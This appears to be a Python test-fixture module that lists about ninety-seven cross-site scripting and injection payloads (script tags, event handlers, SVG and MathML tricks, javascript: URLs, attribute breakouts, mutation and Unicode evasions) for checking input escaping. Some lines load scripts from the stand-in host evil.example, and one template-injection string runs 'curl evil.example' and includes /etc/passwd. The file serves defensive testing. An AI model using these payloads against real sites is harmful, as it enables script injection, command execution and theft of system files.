"""Texts that would run a script, draw what is not there, or ask another host, if a page let them.

Each calls `alert`, or asks a host below `evil.example`: a test sees either.
"""

from typing import Final

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt >alert(3)</sCrIpT >",
    "<script src=//evil.example/4.js></script>",
    "<script type=module>import('//evil.example/5.js')</script>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<noscript><p title='</noscript><script>alert(7)</script>'>",
    "<<script>alert(8);//<</script>",
    "<script\x0c>alert(9)</script\x0c>",
    "<script>/*\u2028*/alert(10)</script>",
)
_EVENTS: Final = (
    "<img src=x onerror=alert(11)>",
    "<img/src=`x`/onerror=alert(12)>",
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<input autofocus onfocus=alert(16)>",
    "<marquee onstart=alert(17)>",
    "<audio src=x onerror=alert(18)>",
    "<iframe onload=alert(19)></iframe>",
    "<button popovertarget=p onclick=alert(20)>x</button>",
    "<xss onanimationstart=alert(21) class=fresh>",
    "<select autofocus onfocus=alert(22)>",
)
_FOREIGN: Final = (
    "<svg onload=alert(23)>",
    "<svg><script>alert(24)</script></svg>",
    "<svg><animate onbegin=alert(25) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(26)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(27)</script>'></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(28)>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(29)</script></svg>#x'>",
    "</title><svg onload=alert(30)>",
    "</text></svg><img src=x onerror=alert(31)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(32)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(33)>x</maction></math>",
    "<math href=javascript:alert(34)>x</math>",
)
_ADDRESSES: Final = (
    "javascript:alert(35)",
    "JaVaScRiPt:alert(36)",
    "java\tscript:alert(37)",
    "\x01javascript:alert(38)",
    "javascript://%0aalert(39)",
    "data:text/html,<script>alert(40)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4=",
    "vbscript:msgbox(42)",
    "//evil.example/43",
    "https://evil.example/44?",
    "[click](javascript:alert(45)) ![](https://evil.example/45.png)",
    "<a href=javascript:alert(46)>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/47'>",
    "<base href=//evil.example/48/>",
    "<link rel=stylesheet href=//evil.example/49.css>",
    "<object data=//evil.example/50></object><embed src=//evil.example/50>",
    "<form action=//evil.example/51><button>go</button></form>",
)
BREAKERS: Final = (
    '"><script>alert(52)</script>',
    "'><script>alert(53)</script>",
    '" onmouseover=alert(54) autofocus onfocus=alert(54) x="',
    "' onfocus=alert(55) autofocus tabindex=1 x='",
    "` onerror=alert(56) `",
    "--><script>alert(57)</script><!--",
    "]]><script>alert(58)</script><![CDATA[",
    "</textarea><script>alert(59)</script><textarea>",
    "</style><script>alert(60)</script><style>",
    "</pre></td></tr></table><script>alert(61)</script>",
    "</summary></details><img src=x onerror=alert(62)>",
    '"}</script><script>alert(63)</script>',
    "\\u003cscript\\u003ealert(64)\\u003c/script\\u003e",
    "${alert(65)}",
    "{{constructor.constructor('alert(66)')()}}",
    "{% raw %}<script>alert(67)</script>{% endraw %}",
    "{{ cycler.__init__.__globals__.os.popen('curl evil.example') }}{% include '/etc/passwd' %}",
    "{% autoescape false %}<script>alert(67)</script>{% endautoescape %}{{ '<b>'|safe }}",
    "<%= alert(68) %>",
    "&lt;script&gt;alert(69)&lt;/script&gt;",
    "&#60;script&#62;alert(70)&#60;/script&#62;",
    '\ndata: {"cells": {"state": ["<img src=x onerror=alert(71)>", "javascript:alert(71)"]}}\n\n',
)
_STYLES: Final = (
    "<style>@import '//evil.example/72.css';</style>",
    "<p style=background:url(//evil.example/73)>",
    "<style>body{display:none}</style>",
    "<div style=position:fixed;inset:0;z-index:99>75</div>",
    "red;background:url(//evil.example/76)",
    "</style><style>*{color:expression(alert(77))}",
)
_MUTATIONS: Final = (
    "<noembed><img title='</noembed><img src onerror=alert(78)>'></noembed>",
    "<template><img src=x onerror=alert(79)></template>",
    "<table><caption><svg><title><caption><style><!--</style><img src onerror=alert(80)>-->",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img "
    "onerror=alert(81) src=1>'>",
    "<listing>&lt;img src=x onerror=alert(82)&gt;</listing>",
    "<xmp><p title='</xmp><svg/onload=alert(83)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(84)>'>",
    "<plaintext>85",
)
_LETTERS: Final = (
    "\u202e<script>alert(86)</script>",
    "if admin\u202e \u2066// check\u2069 \u2066: alert(87)",
    "\uff1cscript\uff1ealert(88)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(89)+ADw-/script+AD4-",
    "<script>\ufeffalert(90)</script>",
    "<img src=x one\u200brror=alert(91)>",
    "\x1b]8;;javascript:alert(92)\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31m<script>alert(93)</script>\x1b[0m",
    "\x02<script>alert(94)</script>\x02",
    "%3Cscript%3Ealert(95)%3C/script%3E",
    "<\u017fcript>alert(96)</\u017fcript>",
    "\U000e003cscript\U000e003ealert(97)",
)
PAYLOADS: Final = (
    *_SCRIPTS,
    *_EVENTS,
    *_FOREIGN,
    *_ADDRESSES,
    *BREAKERS,
    *_STYLES,
    *_MUTATIONS,
    *_LETTERS,
)
LONGEST_NAME_BYTES: Final = 200
MOST_PARTS: Final = 4


def every(where: str) -> str:
    """Return a text with all of them, each on a line of its own; `where` says which place it is."""
    return "\n".join((where, *PAYLOADS, where))


def names() -> tuple[str, ...]:
    """Return those that can be the name of one folder."""
    return tuple(text for text in PAYLOADS if "/" not in text and _is_path(text))


def paths() -> tuple[str, ...]:
    """Return those that can be a path below a folder: a run is called by its path."""
    return tuple(text for text in PAYLOADS if _is_path(text))


def _is_path(text: str) -> bool:
    parts = text.split("/")
    is_long = len(text.encode()) > LONGEST_NAME_BYTES or len(parts) > MOST_PARTS
    return not is_long and not {"", ".", ".."} & set(parts)
